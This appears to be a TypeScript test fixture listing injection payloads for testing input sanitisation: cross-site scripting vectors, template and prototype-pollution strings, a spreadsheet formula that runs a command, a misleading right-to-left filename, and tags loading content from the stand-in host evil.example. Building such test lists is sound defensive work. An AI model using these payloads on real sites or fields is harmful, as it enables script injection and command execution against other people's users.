// Texts that run something where a page takes text for markup, script, address or
// format. Each would set window.pwned or open a dialog.

export const hostile: string[] = [
  '<script>pwned=1</script>',
  '<img src=x onerror=pwned=1>',
  '<svg onload=pwned=1>',
  '"><svg/onload=pwned=1>',
  "'><img src=x onerror=pwned=1>",
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<body onload=pwned=1>',
  '<input autofocus onfocus=pwned=1>',
  '<details open ontoggle=pwned=1>',
  '<video><source onerror=pwned=1></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  '<a href="javascript:pwned=1">x</a>',
  'javascript:pwned=1',
  'data:text/html,<script>pwned=1</script>',
  '</title><script>pwned=1</script>',
  '</textarea><script>pwned=1</script>',
  '</option></select><img src=x onerror=pwned=1>',
  '<template><script>pwned=1</script></template>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<style>@import "//evil.example/x.css";</style>',
  '<form action=//evil.example><button>x</button></form>',
  '<object data=//evil.example/x.swf>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack on templates
  '${pwned=1}',
  '{{constructor.constructor("pwned=1")()}}',
  '#{pwned=1}',
  '%3Cscript%3Epwned=1%3C/script%3E',
  '&lt;script&gt;pwned=1&lt;/script&gt;',
  '\u003cimg src=x onerror=pwned=1\u003e',
  '<scr\u0000ipt>pwned=1</script>',
  '<ſcript>pwned=1</ſcript>',
  '<img src=`x`onerror=pwned=1>',
  '<x contenteditable onblur=pwned=1>x',
  '__proto__',
  'constructor',
  "=cmd|' /C calc'!A0",
  '\u202egnp.exe',
  '<!--<img src="--><img src=x onerror=pwned=1//">',
];

/** Those that a name can be: short enough, and without what names are refused for. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: names with them are refused
export const hostileNames = hostile.filter((text) => text.length <= 40 && !/[\u0000\u202e]/.test(text));
